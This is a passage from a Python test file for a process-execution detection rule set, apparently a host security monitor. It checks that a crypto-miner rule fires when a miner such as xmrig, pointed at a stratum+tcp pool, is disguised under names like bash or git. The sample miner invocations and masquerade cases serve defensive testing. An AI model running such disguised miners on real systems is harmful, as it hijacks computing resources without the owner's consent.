    used = {n for rule in rules.rules for a in rule.alternatives for n in (*a.all, *a.any, *a.none)}
    assert {group.id for group in rules.groups} <= used


@pytest.mark.parametrize("liar", ["grep", "bash", "nohup", "git"])
def test_a_false_name_excuses_nobody(rules: RuleSet, liar: str):
    """argv[0] and the name a program is called by are the caller's to choose; the path is the kernel's."""
    event = Sample(
        names=(b"x", liar.encode()),
        path=b"/tmp/x",
        args=b"-c\0config\0-o\0stratum+tcp://pool.example:3333\0",
        facts=facts_of([liar.encode(), b"-c", b"config"], path=b"/tmp/x"),
    )
    assert fired(rules, event) == {"miner.command": "critical"}


def test_any_of_the_names_is_enough(rules: RuleSet):
    event = Sample(names=(b"a", b"b", b"xmrig"), path=b"/tmp/a", args=b"")
    assert fired(rules, event) == {"miner.command": "critical"}


@pytest.mark.parametrize(("rule", "severity", "command"), [("miner.command", *r) for r in rows(MINERS, 2)])
def test_explanations_agree_with_the_verdict(rules: RuleSet, rule: str, severity: str, command: str):
    found = rules.rule(rule)
    assert found is not None
    said = rules.explain(found, event := sample(command))
    assert (said.fires, said.severity, said.missing, said.forbidden) == (True, severity, (), ())
    for match in said.matches:
        fields = {"path": (event.path,), "args": (event.args,), "name": event.names}
        spelled = {text[match.start : match.end].lower() for text in fields[match.field]}
        assert match.literal.lower().encode() in spelled


@pytest.mark.parametrize("command", QUIET.strip().splitlines())
def test_explanations_of_what_does_not_fire(rules: RuleSet, command: str):
    for rule in rules.rules:
        said = rules.explain(rule, sample(command))
        assert not said.fires
        assert said.missing or said.forbidden or rule.on != "exec"


def test_evidence_is_not_buried(rules: RuleSet):
    """Padding with what matches often must not push out what matters."""
    found = rules.find("args", b"-a\0" * 500 + b"stratum+tcp://x\0")
    assert [match.literal for match in found if match.group == "pool-schemes"] == ["stratum+tcp://"]
    assert len([match for match in found if match.group == "algorithm-options"]) == 1


def test_every_rule_can_be_acted_upon(rules: RuleSet):
    for rule in rules.rules:
        assert rule.remedy
        assert rule.attack
        # what acts, acts on what is loud: an alternative of low or medium severity may be everyday work
        loud = {"high", "critical"} & {a.severity for a in rule.alternatives}
        assert (rule.action != "alert") <= bool(loud), rule.id
        if loud and rule.id != "net.scan-below":  # which says why
            assert rule.action in ("block", "kill"), rule.id
        assert len(rule.title) < 80
        assert re.fullmatch(r"[a-z]+\.[a-z-]+", rule.id)


def test_there_is_a_rule_for_every_fact_about_forwards_and_the_gpu(rules: RuleSet):
    used = {name for rule in rules.rules for a in rule.alternatives for name in (*a.all, *a.any)}
    expected = {
        f"@{fact.name}"
        for fact in FACTS
        if "file" not in fact.on and fact.name.startswith(("ssh-", "gpu-", "memfd", "wallet"))
    }
    assert expected <= used
